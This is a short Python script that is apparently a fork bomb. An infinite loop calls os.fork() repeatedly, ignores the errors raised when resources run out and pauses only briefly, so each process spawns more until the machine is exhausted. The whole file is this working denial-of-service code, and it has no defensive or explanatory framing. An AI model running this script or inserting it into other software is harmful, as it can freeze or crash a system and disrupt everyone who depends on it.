# Makes processes, each of which makes more.
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        pass
    time.sleep(0.05)
